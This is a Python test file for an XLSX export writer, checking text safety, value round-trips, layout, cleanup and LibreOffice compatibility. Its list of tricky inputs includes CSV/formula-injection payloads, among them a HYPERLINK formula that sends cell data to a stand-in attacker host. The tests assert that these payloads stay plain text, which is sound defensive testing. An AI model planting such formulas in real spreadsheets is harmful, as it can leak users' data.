"""The one XLSX writer behind every export (iopdesk/reports/xlsx.py, XlsxWriter in
constant_memory mode): text stays text (no formula, no link), values read back the same through
openpyxl and LibreOffice, and nothing is left in the system temp folder."""

from __future__ import annotations

import errno
import os
import tempfile
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from openpyxl import load_workbook

from iopdesk.reports.xlsx import Book, clean_text, partial_path, read_text
from tests.test_billing_golden import REQUIRE_TOOLS, _libreoffice_csv, _soffice

TRICKY = [
    "Fish & Chips <Ltd>",
    "She said \"hi\" & 'bye'",
    "]]> and <![CDATA[x]]>",
    "=SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/x?"&A1,"Click me")',
    "+1-555-0100",
    "-2+3",
    "@user",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/",
    "0123",
    "1e5",
    "  padded  ",
    "line one\nline two",
    "tab\there",
    "Zoë Ångström – 日本語 😀",
    "a\x00b\x01c\x08d\x0be\x0cf\x1fg",  # control characters XML cannot hold: dropped
    "cr\rkept",
]


def _values(ws: Any) -> list[list[Any]]:
    return [[read_text(c.value) for c in row] for row in ws.iter_rows()]


def test_text_is_always_a_text_cell_and_reads_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    with Book(path) as book:
        ws = book.sheet("Text")
        for value in TRICKY:
            ws.append([value, value])
    wb = load_workbook(path)
    sheet = wb["Text"]
    expected = [clean_text(v) for v in TRICKY]
    assert [r[0] for r in _values(sheet)] == expected
    assert [r[1] for r in _values(sheet)] == expected
    assert expected[-2] == "abcdefg"
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row)  # no formula
    assert not sheet._hyperlinks
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
        ElementTree.fromstring(xml)
        assert "<f>" not in xml and "<hyperlinks" not in xml
        assert not any("externalLink" in n or "hyperlink" in n for n in z.namelist())


def test_numbers_dates_bools_and_empty_cells(tmp_path: Path) -> None:
    big = 2**53 + 1
    path = tmp_path / "v.xlsx"
    with Book(path) as book:
        money = book.style(number_format='"$"#,##0.00')
        ws = book.sheet("Values")
        ws.append([0, -7, 10**15, 1.5e300, -2.5e-300, 0.1])
        ws.append([Decimal("127.50"), Decimal("9690.00"), 63487.0], [money] * 3)
        ws.append([float("nan"), float("inf"), Decimal("-Infinity"), True, False])
        ws.append([date(2026, 10, 1), date(1900, 3, 1)])
        ws.append([datetime(2026, 5, 1, 13, 30, 15), datetime(2026, 5, 1)])
        ws.append([None, "", None, "x", None])
        ws.append([])
        ws.append(["after the empty row"])
        with pytest.raises(TypeError):
            ws.append([object()])
        with pytest.raises(TypeError):
            ws.append([datetime(2026, 1, 1, tzinfo=__import__("datetime").UTC)])
    rows = _values(load_workbook(path)["Values"])
    assert rows[0] == [0, -7, 10**15, 1.5e300, -2.5e-300, 0.1]
    assert rows[1][:3] == [127.5, 9690, 63487]
    assert rows[2][:5] == [None, None, None, True, False]  # no NaN/infinity in a spreadsheet
    assert rows[3][:2] == [datetime(2026, 10, 1), datetime(1900, 3, 1)]
    assert rows[4][:2] == [datetime(2026, 5, 1, 13, 30, 15), datetime(2026, 5, 1)]
    assert rows[5][:5] == [None, None, None, "x", None]
    assert rows[-1][0] == "after the empty row"
    assert big  # (ints beyond 2**53 are stored as floats by every spreadsheet)


def test_layout_styles_and_sheet_names(tmp_path: Path) -> None:
    name = "R&D's log"
    path = tmp_path / "l.xlsx"
    with Book(path, title="Layout & <title>") as book:
        head = book.style(bold=True, fill="DDE4EE")
        units = book.style(number_format="0")
        ws = book.sheet(
            name,
            widths=(12, 28.5, 8),
            freeze_rows=1,
            auto_filter=True,
            print_titles=True,
            landscape=True,
            footer="Part 2 & notice",
        )
        ws.append(["A", "B", "C"], [head] * 3)
        for i in range(1, 5):
            ws.append([f"r{i}", i, i * 2], [None, units, None])
        book.sheet("Empty", auto_filter=True)
        book.sheet("Plain").append(["just one"])
    wb = load_workbook(path)
    assert wb.sheetnames == [name, "Empty", "Plain"]
    assert wb.properties.title == "Layout & <title>"
    ws = wb[name]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:C5"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape"
    assert ws.oddFooter.left.text == "Part 2 && notice"  # "&&" is a literal "&"
    widths = {k: round(d.width) for k, d in ws.column_dimensions.items()}
    assert widths == {"A": 13, "B": 29, "C": 9}  # Excel's stored width includes padding
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb.endswith("DDE4EE")
    assert not ws["A2"].font.b and ws["B2"].number_format == "0"
    assert wb["Empty"].max_row == 1 and wb["Empty"]["A1"].value is None
    assert wb["Plain"].freeze_panes is None and wb["Plain"].auto_filter.ref is None
    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None
        for part in z.namelist():
            if part.endswith((".xml", ".rels")):
                ElementTree.fromstring(z.read(part))


def test_a_failure_removes_the_file_and_its_row_buffers(tmp_path: Path) -> None:
    path = tmp_path / "broken.xlsx.partial"
    with pytest.raises(RuntimeError), Book(path) as book:
        book.sheet("S").append(["partial"] * 10)
        raise RuntimeError("stop")
    assert sorted(os.listdir(tmp_path)) == []
    from xlsxwriter.exceptions import InvalidWorksheetName

    with pytest.raises(InvalidWorksheetName), Book(tmp_path / "bad.xlsx") as book:
        book.sheet("a/b")
    assert sorted(os.listdir(tmp_path)) == []


def test_no_file_in_the_system_temp_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """XlsxWriter's constant_memory row buffers are files: they live beside the output and go
    with it, never in the system temp folder where a killed export would leave them."""
    temp = tmp_path / "system-temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    before: set[str] = set()
    out = tmp_path / "out"
    out.mkdir()
    tmp_path = out
    path = tmp_path / "big.xlsx"
    seen: set[str] = set()
    with Book(path) as book:
        ws = book.sheet("Big")
        for i in range(5_000):
            ws.append([f"Canary Person {i}", i, date(2026, 1, 1), Decimal(i) / 4])
        seen = set(os.listdir(tmp_path))
        assert set(os.listdir(temp)) - before == set()
    assert seen == {"big.xlsx.d"}  # the row buffers, beside the output
    assert sorted(os.listdir(tmp_path)) == ["big.xlsx"]
    rows = list(load_workbook(path, read_only=True)["Big"].iter_rows(values_only=True))
    assert len(rows) == 5_000 and rows[-1][:2] == ("Canary Person 4999", 4999)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # zip's __del__
def test_full_disk_raises_the_os_error(tmp_path: Path) -> None:
    """A full disk surfaces as OSError(ENOSPC): the export turns it into its 'disk is full'
    message."""
    link = tmp_path / "full.xlsx"
    link.symlink_to("/dev/full")
    with pytest.raises(OSError) as err, Book(link) as book:
        ws = book.sheet("S")
        for i in range(2_000):
            ws.append([f"row {i}", i])
    assert err.value.errno == errno.ENOSPC


def test_partial_path() -> None:
    assert partial_path(Path("/x/billing.xlsx")) == Path("/x/billing.xlsx.partial")


def test_libreoffice_reads_the_same(tmp_path: Path) -> None:
    if _soffice() is None:
        if REQUIRE_TOOLS:
            pytest.fail("LibreOffice (soffice) is required here: install libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed")
    text = [v for v in TRICKY if "\n" not in v and "\r" not in v and "\t" not in v]
    path = tmp_path / "lo.xlsx"
    with Book(path) as book:
        day = book.style(number_format="yyyy-mm-dd")
        money = book.style(number_format='"$"#,##0.00')
        ws = book.sheet("Mixed", freeze_rows=1, auto_filter=True)
        ws.append(["Text", "Number", "Date", "Charge", "Empty"])
        for i, value in enumerate(text):
            ws.append(
                [value, i * 1000 + 0.5, date(2026, 1, 1 + i), Decimal("1234.5"), None],
                [None, None, day, money, None],
            )
        book.sheet("Blank")
    shown = _libreoffice_csv(path, tmp_path, ["Mixed", "Blank"])
    rows = shown["Mixed"]
    assert rows[0] == ["Text", "Number", "Date", "Charge", "Empty"]
    for i, value in enumerate(text, start=1):
        assert rows[i][:4] == [
            clean_text(value),
            str((i - 1) * 1000 + 0.5),
            f"2026-01-{i:02d}",
            "$1,234.50",
        ], value
